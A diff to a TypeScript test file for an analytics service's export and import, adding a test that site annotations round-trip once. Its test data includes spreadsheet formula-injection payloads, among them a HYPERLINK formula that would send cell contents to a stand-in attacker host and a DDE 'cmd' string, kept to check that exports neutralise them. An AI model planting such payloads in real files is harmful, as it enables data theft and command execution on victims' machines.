@@ -64,11 +64,11 @@ for (const adapter of EVENT_STORE_ADAPTERS) test(`an export imported into a fres
     assert.equal(watermark, LAST);
 
     const zip = join(dir, 'export.zip');
-    await pipeline(Readable.from(exportPlausible(events, { siteId: original.site.id, domain: 'original.test', days: { from: FIRST, to: LAST }, watermark })), createWriteStream(zip));
+    await pipeline(Readable.from(exportPlausible(events, { siteId: original.site.id, domain: 'original.test', days: { from: FIRST, to: LAST }, watermark, annotations: [] })), createWriteStream(zip));
     assert.ok(await isZipFile(zip));
     const names = (await readZipDirectory(zip)).map((e) => e.name);
     assert.ok(names.includes(`imported_visitors_${FIRST.replaceAll('-', '')}_${LAST.replaceAll('-', '')}.csv`), names.join(' '));
-    assert.equal(names.length, 12, "the tables, svc's dimensions and README.txt");
+    assert.equal(names.length, 13, "the tables, svc's dimensions, the annotations and README.txt");
     const report = await importPlausible(events, { siteId: fresh.site.id, importId: 'back' }, zip, 'export.zip');
     assert.deepEqual([report.skippedRows, report.skippedDays, report.days], [0, [], { from: FIRST, to: LAST }]);
 
@@ -158,6 +158,46 @@ test("formulas in collected values leave the export as text and come back exactl
     assert.deepEqual(keys, ["'=1", '=HYPERLINK("https://evil.example/?"&A1,"click")', '@cmd']);
     const campaigns = (await breakdown(copy, 'utm_campaign')).map((r) => r.key).sort();
     assert.deepEqual(campaigns, ['+SUM(1+1)', "-2+3+cmd|' /C calc'!A0", '-5']);
+  } finally {
+    await server.stop();
+    await rm(dir, { recursive: true, force: true });
+  }
+});
+
+test("a site's annotations leave in svc's export, in a file of their own, and come back once through svc's import", async () => {
+  const clock = new ManualClock(Date.parse('2026-03-12T12:00:00Z'));
+  const server = await startTestServer({ clock });
+  const dir = await mkdtemp(join(tmpdir(), 'svc-annotations-'));
+  try {
+    const site = await createSite(server);
+    const notes = [
+      ['2026-03-01', 'Launch, "v2"'],
+      ['2025-06-30', '=HYPERLINK("https://evil.example")'],
+      ['2026-03-11', 'Two\nlines'],
+    ];
+    for (const [date, text] of notes) assert.equal((await server.admin('POST', `/sites/${site.siteId}/annotations`, { date, text })).status, 201);
+    const exported = await fetch(`${server.url}/admin/v1/sites/${site.siteId}/export?from=2026-03-01&to=2026-03-11`, { headers: { authorization: `Bearer ${server.adminToken}` } });
+    assert.equal(exported.status, 200);
+    const zip = new Uint8Array(await exported.arrayBuffer());
+    const path = join(dir, 'export.zip');
+    await pipeline(Readable.from([zip]), createWriteStream(path));
+    const entry = (await readZipDirectory(path)).find((e) => e.name === 'svc_annotations.csv');
+    assert.ok(entry, 'the annotations file');
+    const records = [];
+    for await (const record of csvRecords(await openZipEntry(path, entry))) if ('fields' in record) records.push(record.fields);
+    assert.deepEqual(records[0], ['date', 'text']);
+    assert.ok(records.some((fields) => fields[1] === `'=HYPERLINK("https://evil.example")`), 'a formula leaves as text');
+
+    const copy = await createSite(server);
+    const listed = async (siteId: string) => ((await server.admin('GET', `/sites/${siteId}/annotations`)).body.annotations as Array<{ date: string; text: string }>).map(({ date, text }) => ({ date, text }));
+    await server.admin('POST', `/sites/${copy.siteId}/annotations`, { date: '2026-03-01', text: 'Launch, "v2"' });
+    for (const round of [1, 2]) {
+      const back = await uploadImport(server, copy.siteId, zip, 'source=plausible&name=svc-export.zip');
+      const job = await finishedImport(server, copy.siteId, back.body.importId);
+      assert.equal(job.status, 'done', job.error);
+      // Every annotation, the days exported or not, each once: one the site held, and a second import, add none.
+      assert.deepEqual(await listed(copy.siteId), await listed(site.siteId), `import ${round}`);
+    }
   } finally {
     await server.stop();
     await rm(dir, { recursive: true, force: true });
